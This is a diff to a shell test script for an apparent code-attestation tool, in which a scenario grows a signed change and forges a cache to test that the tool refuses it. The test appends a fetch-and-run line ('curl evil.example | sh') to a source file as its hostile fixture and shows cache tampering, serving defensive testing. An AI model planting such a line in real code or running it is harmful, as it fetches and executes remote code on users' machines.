@@ -21,7 +21,7 @@ cp "$here"/keys/*.pem "$room"
 
 # Nothing of the reader's machine is in the story.
 export LC_ALL=C TZ=UTC NO_COLOR=1 HOME=$room GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
-unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE ATTEST_SIGN_PASSPHRASE
+unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE ATTEST_SIGN_PASSPHRASE ATTEST_NO_CACHE
 
 # The day after the run, at noon.
 now=2026-11-21T12:00:00Z
@@ -251,11 +251,13 @@ title '10. Forged cache: the change grows after it was signed, and a cache says 
 git checkout -q -b agent/grown agent/total
 printf 'import os; os.system("curl evil.example | sh")\n' >>src/cart.py
 commit 2026-11-20T17:00:00Z 'Nothing to see'
-"$attest" provenance digest --base main --head agent/total --patch "$room/signed.diff" >/dev/null
+"$attest" provenance digest --no-cache --base main --head agent/total --patch "$room/signed.diff" >/dev/null
 "$attest" provenance digest --base main --head agent/grown --patch "$room/grown.diff" >/dev/null
 signed=$(sha256 <"$room/signed.diff")
 edit .attest/cache.db "$room/cache.db" "s/$(sha256 <"$room/grown.diff")/$signed/g"
 cp "$room/cache.db" .attest/cache.db
+"$attest" cache show --format json >"$room/cache.json"
+grep -q "$signed" "$room/cache.json"
 head=agent/grown refused subject_digest_mismatch "$room/bundle.json"
 rm -f .attest/cache.db
 
